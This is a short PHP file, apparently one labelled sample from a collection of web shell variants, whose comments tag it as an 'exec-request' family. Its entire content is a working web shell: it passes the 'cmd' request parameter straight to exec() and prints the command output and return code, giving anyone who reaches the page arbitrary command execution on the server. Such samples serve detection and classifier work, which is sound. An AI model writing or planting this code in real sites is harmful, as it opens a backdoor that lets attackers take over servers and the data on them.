<?php
// Family: webshell/exec-request
// Style: exec with output array
// Trait: exec() of a request command, lines joined back
exec($_REQUEST['cmd'], $lines, $rc);
echo implode("\n", $lines) . "\nrc=$rc";
